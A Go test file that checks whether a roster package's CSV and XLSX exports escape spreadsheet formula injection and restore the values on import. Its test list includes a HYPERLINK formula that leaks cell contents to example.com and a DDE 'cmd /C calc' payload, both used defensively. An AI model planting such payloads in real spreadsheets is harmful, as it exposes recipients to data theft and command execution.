package roster

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// Values a spreadsheet would run as formulas, and legitimate values that
// look like them.
var formulaLike = []string{
	`=HYPERLINK("http://example.com/?"&A1,"点我")`, `=1+1`, `+1+1`, `-1+cmd|' /C calc'!A0`, `@SUM(A1:A9)`,
	"\t=1+1", "\r=1+1", `'=1+1`, `''=1+1`, `'@x`,
	`-5`, `-5.5`, `+8613800138000`, `+86 138 0013 8000`, `-`, `=`, `+`, `@`, `-备注`,
	`'`, `''`, `'abc`, `a=b`, `张慧婷`, ``,
}

// Exports put a quote before a cell that would start a formula (OWASP:
// = + - @ tab CR), plain numbers excepted, and the import takes it off, so
// that every value comes back as it was.
func TestFormulaEscaping(t *testing.T) {
	for _, v := range formulaLike {
		e := escapeFormula(v)
		if e != "" && strings.IndexByte(formulaStarts, e[0]) >= 0 && !plainNumber.MatchString(e) {
			t.Errorf("%q is written %q, which a spreadsheet runs", v, e)
		}
		if back := unescapeFormula(e); back != v {
			t.Errorf("%q is written %q and read back as %q", v, e, back)
		}
	}
	for in, want := range map[string]string{`=1+1`: `'=1+1`, `-5`: `-5`, `+86 138`: `'+86 138`, `'=x`: `''=x`, `'abc`: `'abc`} {
		if got := escapeFormula(in); got != want {
			t.Errorf("escapeFormula(%q) = %q, want %q", in, got, want)
		}
	}
	// A quote typed in a spreadsheet before such a value marks it as text.
	if got := unescapeFormula(`'-5`); got != `-5` {
		t.Errorf("unescapeFormula('-5) = %q", got)
	}
}

func TestFormulasRoundTripThroughCSVAndXLSX(t *testing.T) {
	header := []string{"编号", "内容"}
	wb := &Workbook{Sheets: []*Sheet{{Name: "联系记录", Header: header}}}
	for i, v := range formulaLike {
		wb.Sheets[0].Rows = append(wb.Sheets[0].Rows, Row{Line: i + 2, Cells: []string{"A" + string(rune('a'+i)), v}})
	}
	want := cellValues(wb)

	dir := t.TempDir()
	if err := wb.WriteCSVDir(dir); err != nil {
		t.Fatal(err)
	}
	raw, err := os.ReadFile(filepath.Join(dir, "联系记录.csv"))
	if err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(raw, utf8BOM))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var xlsx bytes.Buffer
	if err := wb.WriteXLSX(&xlsx); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(xlsx.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	cells, err := f.GetRows("联系记录")
	if err != nil {
		t.Fatal(err)
	}
	for name, rows := range map[string][][]string{"CSV": records, "xlsx": cells} {
		for _, r := range rows {
			for _, c := range r {
				if c != "" && strings.IndexByte(formulaStarts, c[0]) >= 0 && !plainNumber.MatchString(c) {
					t.Errorf("%s cell %q starts a formula", name, c)
				}
			}
		}
	}

	fromCSV, err := ReadCSVDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	fromXLSX, err := ReadXLSX(bytes.NewReader(xlsx.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	for name, got := range map[string]*Workbook{"CSV": fromCSV, "xlsx": fromXLSX} {
		if name == "CSV" {
			// encoding/csv drops a carriage return that does not end a
			// line, quoted or not: the one value with one cannot come back.
			i := slices.Index(formulaLike, "\r=1+1")
			got.Sheets[0].Rows[i].Cells[1] = "\r" + got.Sheets[0].Rows[i].Cells[1]
		}
		if g := cellValues(got); !slices.Equal(g, want) {
			t.Errorf("%s round trip:\n got %q\nwant %q", name, g, want)
		}
		for i, r := range got.Sheets[0].Rows {
			if r.Cells[1] != formulaLike[i] {
				t.Errorf("%s row %d: %q, want %q", name, r.Line, r.Cells[1], formulaLike[i])
			}
		}
	}
}
